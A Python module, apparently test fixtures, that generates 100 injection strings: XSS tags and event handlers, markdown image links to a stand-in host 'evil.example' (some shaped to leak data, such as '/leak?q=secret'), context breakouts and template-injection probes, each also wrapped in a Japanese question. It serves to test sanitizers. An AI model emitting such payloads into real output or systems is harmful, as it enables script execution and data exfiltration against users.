"""A hundred texts that would run, load or leak something if anything took them for more than text."""

from __future__ import annotations

_HOST = "evil.example"
_SCRIPTS = (
    "<script>{x}</script>",
    "<script src=//{h}/x.js></script>",
    "<img src=x onerror={x}>",
    "<img src=//{h}/leak.png>",
    "<svg onload={x}>",
    "<svg><script>{x}</script></svg>",
    "<iframe src=javascript:{x}></iframe>",
    "<iframe srcdoc='<script>{x}</script>'></iframe>",
    "<body onload={x}>",
    "<details open ontoggle={x}>a</details>",
    "<video><source onerror={x}></video>",
    "<audio src=//{h}/a.mp3 autoplay>",
    "<object data=//{h}/a></object>",
    "<embed src=//{h}/a>",
    "<link rel=stylesheet href=//{h}/a.css>",
    "<style>@import '//{h}/a.css';</style>",
    "<style>body{{background:url(//{h}/a)}}</style>",
    "<meta http-equiv=refresh content='0;url=//{h}/'>",
    "<base href=//{h}/>",
    "<form action=//{h}/><button autofocus onfocus={x}>a</button></form>",
    "<input autofocus onfocus={x}>",
    "<a href=javascript:{x}>a</a>",
    "<math><mtext><img src=x onerror={x}></mtext></math>",
    "<template><script>{x}</script></template>",
    "<marquee onstart={x}>a</marquee>",
)
_MARKDOWN = (
    "![a](https://{h}/leak?q=secret)",
    "![a](//{h}/leak)",
    "[a](javascript:{x})",
    "[a](https://{h}/)",
    "[![a](https://{h}/a.png)](https://{h}/)",
    "<https://{h}/leak>",
    "![a][b]\n\n[b]: https://{h}/leak",
    '[a](https://{h} "onmouseover={x}")',
    "`<img src=x onerror={x}>`",
    "```html\n<script>{x}</script>\n```",
    "![](data:text/html,<script>{x}</script>)",
    "$$\\href{{javascript:{x}}}{{a}}$$",
    "<!-- --><img src=//{h}/c>",
)
_BREAKOUTS = (
    '"><script>{x}</script>',
    "'><img src=x onerror={x}>",
    "</textarea><script>{x}</script>",
    "</title><script>{x}</script>",
    "</script><script>{x}</script>",
    "]]><script>{x}</script>",
    "\\u003cscript\\u003e{x}\\u003c/script\\u003e",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "${{{x}}}",
    "{{{{{x}}}}}",
    "{{% print(7*7) %}}",
    "#{{7*7}}",
    "javascript:{x}",
    "＜script＞{x}＜/script＞",
    "<ſcript>{x}</ſcript>",
    "<scr\u200bipt>{x}</scr\u200bipt>",
    "[1](#)<img src=x onerror={x}>[2]",
)


def payloads() -> list[str]:
    """All of them, each asking for a word as a resident would, so that every door takes it for a question."""
    told = [one.format(x="window.pwned=1", h=_HOST) for one in (*_SCRIPTS, *_MARKDOWN, *_BREAKOUTS)]
    again = [f"これは何ですか {one} おしえて" for one in told]
    return (told + again)[:100]
